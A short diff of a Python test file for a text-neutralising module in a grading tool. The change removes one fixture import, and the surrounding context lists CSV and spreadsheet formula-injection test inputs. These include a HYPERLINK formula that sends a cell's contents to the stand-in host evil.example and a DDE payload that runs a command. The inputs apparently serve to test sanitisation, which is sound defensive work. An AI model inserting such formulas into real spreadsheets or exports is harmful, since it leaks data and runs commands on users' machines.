@@ -14,7 +14,6 @@ from tutor.neutralise import csv_cell, csv_text, latex_math, latex_text, termina
 from .conftest import assert_clean
 from .graded_course import (RIGHT, SALT, STUDENTS, answer_file, assert_others_intact, course, grade,
                                    handed_out, invoke)
-from .graded_course import plugins  # noqa: F401 -- the fixture
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1)", "@SUM(1, 2)",
             "-2+3", "\t=1+1", "\r=1+1", "=1+1", "-x", "+x"]
